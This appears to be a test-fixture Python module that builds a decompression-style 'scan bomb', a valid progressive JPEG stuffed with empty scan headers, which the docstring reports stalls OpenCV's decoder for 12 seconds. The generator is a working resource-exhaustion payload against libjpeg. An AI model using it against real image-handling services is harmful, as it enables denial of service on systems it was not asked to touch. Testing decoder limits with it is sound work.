"""Images that are valid by their header and limits but cost a decoder far more than their pixels say.

``scan_bomb``: a real progressive JPEG (OpenCV's encoder) with ``scans`` empty copies of its last scan header
inserted before EOI.  libjpeg makes a pass over every block for each scan however empty it is, so 189,494 of
them in 2 MB held ``cv2.imdecode`` for 12 s at 1000 x 1000 here; the header and pixel count stay valid.
"""
from __future__ import annotations

import cv2
import numpy as np


def progressive_jpeg(side: int = 1000, seed: int = 0) -> bytes:
    """A smooth, real ``side`` x ``side`` progressive JPEG (about 105 kB at 1000)."""
    rng = np.random.default_rng(seed)
    img = cv2.GaussianBlur(rng.integers(0, 256, (side, side, 3), dtype=np.uint8), (9, 9), 3)
    ok, enc = cv2.imencode(".jpg", img, [cv2.IMWRITE_JPEG_PROGRESSIVE, 1, cv2.IMWRITE_JPEG_QUALITY, 80])
    assert ok
    return enc.tobytes()


def last_scan_header(jpeg: bytes) -> bytes:
    """The last SOS segment's header (marker, length and parameters; no entropy-coded data)."""
    at = jpeg.rfind(b"\xff\xda")
    return jpeg[at:at + 2 + int.from_bytes(jpeg[at + 2:at + 4], "big")]


def scan_bomb(total_bytes: int = 2_000_000, side: int = 1000) -> bytes:
    """A ``side`` x ``side`` progressive JPEG padded to about ``total_bytes`` with empty scans."""
    base = progressive_jpeg(side)
    header = last_scan_header(base)
    count = max(0, (total_bytes - len(base)) // len(header))
    return base[:-2] + header * count + base[-2:]
